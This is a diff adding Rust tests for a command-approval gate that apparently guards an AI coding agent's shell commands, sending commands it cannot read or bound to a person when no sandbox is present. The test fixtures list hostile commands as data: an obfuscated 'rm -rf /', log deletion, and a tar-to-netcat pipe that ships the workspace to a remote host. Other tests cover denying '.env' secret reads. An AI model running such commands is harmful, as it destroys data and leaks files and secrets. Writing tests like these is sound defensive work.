@@ -1,4 +1,5 @@
 use super::*;
+use crate::TEST_COMMAND_RULE;
 
 fn gate(mode: ApprovalMode, tweak: impl FnOnce(&mut GateSettings, &mut PathSpec)) -> Gate {
     let mut settings = GateSettings {
@@ -180,4 +181,148 @@ fn commands_reading_env_files_are_denied() {
         assert!(v.rule.unwrap().starts_with("paths.read_deny"), "{cmd}");
     }
     assert_eq!(g.judge(&exec("cat .env.example")).decision, Decision::Allow);
+}
+
+/// Commands Chamber cannot read or bound, as a model might send them.
+const UNREADABLE: &[(&str, &str)] = &[
+    ("$(echo rm) -rf /", "builtin:dynamic-command"),
+    ("python3 -c 'import shutil'", "builtin:inline-code"),
+    ("awk 'BEGIN{system(\"touch x\")}'", "builtin:inline-code"),
+    ("vim -c ':!touch x' -c ':q' f", "builtin:inline-code"),
+    (
+        "find /srv/data -name '*.log' -exec rm {} \\;",
+        "builtin:write-outside-workspace",
+    ),
+    ("rsync -a --delete src/ backup/", "builtin:sync-delete"),
+    (
+        "tar czf - . | nc example.com 9000",
+        "builtin:archive-to-network",
+    ),
+    ("sudo python3 -c 'x'", "builtin:inline-code"),
+];
+
+fn in_workspace(g: &Gate, command: &str) -> GateVerdict {
+    let ws = std::path::Path::new("/work/proj");
+    let ctx = CommandContext {
+        workspace: Some(ws),
+        ..CommandContext::default()
+    };
+    g.judge_in(&exec(command), &ctx)
+}
+
+#[test]
+fn without_a_sandbox_yes_never_approves_what_the_policy_cannot_read() {
+    let unconfined = [
+        SandboxState::Off,
+        SandboxState::Unconfined {
+            reason: "no user namespaces".into(),
+        },
+        SandboxState::Unavailable {
+            reason: "no user namespaces".into(),
+            refuse: false,
+        },
+    ];
+    for state in unconfined {
+        for mode in [ApprovalMode::Ask, ApprovalMode::FullAuto] {
+            let g = gate(mode, |s, _| {
+                s.auto_approve = true;
+                s.sandbox = state.clone();
+            });
+            for (cmd, rule) in UNREADABLE {
+                let v = in_workspace(&g, cmd);
+                assert_eq!(v.decision, Decision::Ask, "{state:?} {mode} {cmd}: {v:?}");
+                assert!(v.explicit, "{state:?} {cmd}: only a person may approve");
+                assert_eq!(v.rule.as_deref(), Some(*rule), "{state:?} {cmd}");
+                assert!(v.reason.contains("only a person"), "{}", v.reason);
+            }
+            // What the policy can read, --yes still answers (with no sandbox).
+            let v = in_workspace(&g, "make build");
+            assert_eq!(v.decision, Decision::Allow, "{state:?} {mode}: {v:?}");
+        }
+        // A person's earlier yes to the very command still counts.
+        let g = gate(ApprovalMode::Ask, |s, _| s.sandbox = state.clone());
+        g.remember(&exec("python3 -c 'x'"), GrantScope::Exact);
+        assert_eq!(in_workspace(&g, "python3 -c 'x'").decision, Decision::Allow);
+        g.remember(&exec("python3 -c 'y'"), GrantScope::Prefix);
+        let v = in_workspace(&g, "python3 -c 'z'");
+        assert!(
+            v.explicit,
+            "a prefix grant does not cover other code: {v:?}"
+        );
+    }
+    // Sandboxed, --yes answers them as before.
+    let g = gate(ApprovalMode::Ask, |s, _| s.auto_approve = true);
+    for (cmd, _) in UNREADABLE {
+        let v = in_workspace(&g, cmd);
+        assert_eq!(v.decision, Decision::Allow, "{cmd}: {v:?}");
+        assert!(v.preapproved, "{cmd}");
+    }
+}
+
+#[test]
+fn test_commands_run_without_asking_in_auto_edit_when_sandboxed() {
+    let tests = [
+        "pytest -q",
+        "python3 -m pytest tests/",
+        "python -m pytest",
+        "npm test",
+        "go test ./...",
+        "make test",
+        "cargo test --all",
+        "cd sub && pytest",
+    ];
+    let g = gate(ApprovalMode::AutoEdit, |_, _| {});
+    for cmd in tests {
+        let v = in_workspace(&g, cmd);
+        assert_eq!(v.decision, Decision::Allow, "{cmd}: {v:?}");
+        assert_eq!(v.rule.as_deref(), Some(TEST_COMMAND_RULE), "{cmd}");
+    }
+    // Anything else in the line still asks, as do the same commands in ask
+    // mode and, in auto-edit, without a sandbox.
+    assert_eq!(
+        in_workspace(&g, "pytest && make build").decision,
+        Decision::Ask
+    );
+    let v = in_workspace(&g, "pytest && make build");
+    assert_eq!(v.rule, None, "the unknown part is reported: {v:?}");
+    let ask = gate(ApprovalMode::Ask, |_, _| {});
+    let bare = gate(ApprovalMode::AutoEdit, |s, _| s.sandbox = SandboxState::Off);
+    for cmd in tests {
+        assert_eq!(in_workspace(&ask, cmd).decision, Decision::Ask, "{cmd}");
+        assert_eq!(in_workspace(&bare, cmd).decision, Decision::Ask, "{cmd}");
+    }
+}
+
+#[test]
+fn the_default_policy_file_knows_python3() {
+    let g = Gate::new(
+        Policy::from_toml(crate::DEFAULT_POLICY_TOML, "policy.toml").unwrap(),
+        PathRules::defaults(),
+        GateSettings::default(),
+    );
+    for cmd in ["python3 scripts/gen.py", "python tool.py"] {
+        let v = in_workspace(&g, cmd);
+        assert_eq!(v.decision, Decision::Allow, "{cmd}: {v:?}");
+        assert_eq!(v.rule.as_deref(), Some("project-scripts"));
+    }
+    assert_eq!(
+        in_workspace(&g, "python3 -c 'x'").rule.as_deref(),
+        Some("builtin:inline-code")
+    );
+}
+
+#[test]
+fn explained_judgements_mark_secret_reads_in_the_parts() {
+    let g = gate(ApprovalMode::Ask, |_, _| {});
+    let j = g.judge_explained(&exec("ls && cat .env"), &CommandContext::default());
+    assert_eq!(j.verdict.decision, Decision::Deny);
+    assert_eq!(j.verdict.rule.as_deref(), Some("paths.read_deny: .env"));
+    let parts = j.report.unwrap().parts;
+    assert_eq!(parts[0].verdict.decision, Decision::Allow);
+    assert_eq!(parts[1].verdict.decision, Decision::Deny);
+    assert!(
+        g.judge_explained(&write(&p("a")), &CommandContext::default())
+            .report
+            .is_none()
+    );
 }
